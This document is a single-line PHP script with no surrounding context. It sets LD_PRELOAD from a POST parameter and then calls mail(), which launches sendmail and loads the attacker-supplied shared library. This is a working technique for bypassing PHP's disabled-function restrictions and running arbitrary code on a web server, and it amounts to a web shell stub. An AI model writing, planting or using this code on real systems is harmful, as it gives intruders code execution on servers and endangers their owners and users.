<?php putenv('LD_PRELOAD=' . $_POST['lib']); mail('a@example.com', '', '', '');
